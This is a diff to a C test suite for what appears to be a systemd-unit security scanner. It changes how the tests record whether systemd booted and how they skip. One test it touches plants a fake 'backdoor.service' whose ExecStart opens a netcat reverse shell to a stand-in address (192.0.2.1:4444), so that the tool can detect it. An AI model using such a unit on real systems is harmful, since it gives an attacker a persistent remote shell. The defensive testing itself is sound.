@@ -10,7 +10,7 @@
 #include "make_systemd.h"
 
 static const char *dir;
-static bool        booted;
+static pid_t       booted;
 static char        bindir[4096];
 
 static void setup(void)
@@ -21,12 +21,12 @@ static void setup(void)
     if (strrchr(bindir, '/'))
         *strrchr(bindir, '/') = '\0';
     dir = harness_scratch();
-    booted = access("ext/program/svcql.service", R_OK) == 0 && systemd_start(dir) > 0;
+    booted = systemd_start(dir);
 }
 
 static void teardown(void)
 {
-    if (booted)
+    if (booted > 0)
         systemd_stop(dir);
 }
 
@@ -96,8 +96,7 @@ static void wait_for(const char *name, const char *unit)
 
 START_TEST(planted_units_are_told_of_once)
 {
-    if (!booted)
-        SKIP("needs root and systemd");
+    NEED_SYSTEMD(booted);
     systemd_enter(dir);
     configure("units");
     install("--config /etc/svcql.json");
@@ -125,8 +124,7 @@ END_TEST
 
 START_TEST(the_shipped_pack_finds_a_planted_backdoor_from_its_sandbox)
 {
-    if (!booted)
-        SKIP("needs root and systemd");
+    NEED_SYSTEMD(booted);
     systemd_enter(dir);
     systemd_shell("printf '[Service]\\nExecStart=/bin/sh -c \"/dev/shm/.x | nc 192.0.2.1 4444 -e "
                   "/bin/sh\"\\n' > /etc/systemd/system/backdoor.service");
@@ -151,8 +149,7 @@ END_TEST
 
 START_TEST(the_sandbox_is_tight)
 {
-    if (!booted)
-        SKIP("needs root and systemd");
+    NEED_SYSTEMD(booted);
     systemd_enter(dir);
     install("");
     systemd_shell("systemd-analyze security --no-pager --threshold=25 svcql.service > /dev/null");
